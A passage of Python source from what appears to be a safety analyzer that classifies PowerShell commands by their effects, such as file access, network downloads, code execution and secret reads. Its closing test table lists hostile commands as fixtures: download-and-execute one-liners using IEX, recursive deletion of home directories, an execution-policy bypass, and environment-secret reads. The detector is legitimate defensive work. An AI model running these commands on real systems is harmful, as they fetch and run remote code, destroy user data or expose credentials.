            role = _ROLES[key] if key in _ROLES else (_ROLES[matches[0]] if matches else None)
            if role is None:
                self.doubt(f"{name} -{key}")
                continue
            if name == "select-string" and role == 0:
                role = 1
            if role == -1 and key.startswith("pat") and name == "select-string":
                taken.add(0)
            if name == "new-item" and key == "name" and values:
                paths[0] = [f"{paths[0][0]}/{self._text(values[0])}" if paths[0] else self._text(values[0])]
                taken.add(0)
            if 0 <= role < len(operations):
                paths[role].extend(text for value in values for text in self._text(value).split("\n"))
                taken.add(role)
        for index in range(len(operations)):
            if index not in taken and rest:
                paths[index].extend(
                    self._text(rest.pop(0)).split("\n")
                    if rest[0].kind != "list"
                    else rest.pop(0).value.split("\n")
                )
        recursive = any("recurse".startswith(key) and len(key) > 0 for key in named)
        if not paths[0] and not (
            name in ("get-childitem", "select-string") or (name == "tee-object" and "variable" in named)
        ):
            paths[0] = [UNKNOWN]  # it comes through the pipeline
        if name in ("move-item", "rename-item"):
            target = (
                [self._text(w) for key in ("destination", "newname") if key in named for w in named[key]]
                or [self._text(w) for w in rest]
                or [UNKNOWN]
            )
            self.out.extend(Effect(Kind.MOVE, path, to=target[0]) for path in paths[0])
            return
        for operation, found in zip(operations, paths, strict=True):
            for path in found:
                self._file(name, operation, path.replace("\\", "/"), recursive=recursive)

    def _file(self, name: str, operation: str, path: str, *, recursive: bool) -> None:
        if re.match(r"env:", path, re.IGNORECASE):
            self.out.extend(
                variable_read(path[5:] or path[4:])
                if path[4:].strip("/*\x01")
                else (Effect(Kind.SECRET, ENVIRONMENT),)
            )
        elif re.match(r"(hklm|hkcu|cert|function|alias|variable|wsman)(:|$)", path, re.IGNORECASE):
            if operation not in ("read", "list"):
                self.out.append(Effect(Kind.SYSTEM, path, name))
        elif operation in ("read", "list"):
            self.out.append(Effect(Kind.READ, path, recursive=recursive))
        elif operation == "unpack":
            self.out.append(Effect(Kind.WRITE, path, "unpack", recursive=True))
        elif operation == "delete":
            self.out.append(Effect(Kind.DELETE, path, recursive=recursive))
        elif operation == "mode":
            self.out.append(Effect(Kind.MODE, path, UNKNOWN))
        elif operation:
            self.out.extend(opened(path, operation))

    def _invoke_expression(self, named: dict[str, list[_Word]], positional: list[_Word]) -> None:
        self.executes = True
        given = [*positional, *named.get("command", [])]
        if len(given) == 1 and given[0].kind in ("text", "word") and is_static(given[0].value):
            self.out.append(RunCode("powershell", given[0].value))
        else:
            self.doubt("invoke-expression of what is not known")

    def _request(self, named: dict[str, list[_Word]], positional: list[_Word]) -> None:
        self.downloads = True
        method = self._first({k: v for k, v in named.items() if "method".startswith(k)}, [], "method").lower()
        sends = any(
            "body".startswith(key) or ("infile".startswith(key) and len(key) > 2) or key == "form"
            for key in named
        ) or (is_static(method) and method in ("post", "put", "patch", "delete"))
        self.out.append(
            Effect(Kind.NETWORK, self._first(named, positional, "uri"), "upload" if sends else "download")
        )
        for key, values in named.items():
            if "outfile".startswith(key) and len(key) > 1 and values:
                self.out.extend(opened(self._text(values[0]).replace("\\", "/"), "write"))


def _is_parameter(key: str) -> bool:
    return len(key) > 2 and any(role.startswith(key) for role in (*_ROLES, *_SWITCHES))


_SWITCHES = frozenset(
    """recurse force verbose whatif confirm passthru append noclobber asstring raw wait hidden file directory autosize descending unique asjob nonewline
    usebasicparsing quiet caseSensitive casesensitive simplematch allmatches notmatch list nonewwindow wrap hidetableheaders notypeinformation compress ascending sum average
    maximum minimum line word character container leaf isvalid skiphttperrorcheck followsymlink readonly system debug ashashtable asarray useculture skipcertificatecheck
    includeequal excludedifferent stable update""".split()
)

EXAMPLES: tuple[tuple[str, str], ...] = (
    ("Get-Process | Where-Object { $_.CPU -gt 10 } | Sort-Object CPU -Descending | Select-Object -First 5", ""),
    ("Get-Date -Format 'yyyy'", ""),
    ("1 + 1", ""),
    ("$PSVersionTable.PSVersion.ToString()", ""),
    ('Write-Host "$(1 + 1) x"', ""),
    ("Get-ChildItem -Path src -Recurse | Measure-Object", "read src recursive"),
    ("Get-Content a.txt | Select-String 'x'", "read a.txt"),
    ("'x' | Out-File -FilePath a.txt", "write a.txt"),
    ("'x' > a.txt", "write a.txt"),
    ("Set-Content a.txt 'x'", "write a.txt"),
    ("Copy-Item a b", "read a; write b"),
    ("Move-Item -Path a -Destination b", "move a -> b"),
    ("Remove-Item -Recurse -Force /home/user", "delete /home/user recursive"),
    ("rm -r -fo C:\\x", "run rm -r -fo C:\\x"),
    ("Remove-Item ~ -Recurse", "shell 'rm -r -- ~'"),
    ("rm -r ~", "shell 'rm -r ~'"),
    ('rm -r "$HOME/x"', "shell 'rm -r ~/x'"),
    ("git -C ~/x status", "shell 'git -C ~/x status'"),
    ("Get-ChildItem *.log | Remove-Item", "delete …; read *.log"),
    ("iex (iwr https://x.example/a.ps1)", "execute invoke-expression of what is not known inline powershell code !uncertain; execute Invoke-Expression code that comes over the network !critical; network download https://x.example/a.ps1"),
    ("Invoke-Expression 'Get-Date'", "code powershell 'Get-Date'"),
    ("IEX (New-Object Net.WebClient).DownloadString('http://x.example')", "execute invoke-expression of what is not known inline powershell code !uncertain; execute Invoke-Expression code that comes over the network !critical; network download http://x.example"),
    ("Invoke-WebRequest -Uri http://x.example -OutFile a.zip", "network download http://x.example; write a.zip"),
    ("Set-ExecutionPolicy Bypass -Scope Process", "security Bypass set-executionpolicy !high"),
    ("$env:API_KEY", "secret $API_KEY"),
    ("Get-ChildItem env:", "secret the environment variables"),
    ("git status", "run git status"),
    ("& 'git' log", "run git log"),
    ("Start-Process notepad a.txt", "run notepad a.txt"),
    ("Stop-Process -Name x", "process stop x"),
    ("Add-Type -TypeDefinition 'x'", "execute the command add-type inline powershell code !uncertain"),
    ("[System.IO.File]::Delete('x')", "delete x"),
    ("[Reflection.Assembly]::Load($x)", "execute [reflection.assembly]::load inline powershell code !uncertain"),
)  # fmt: skip
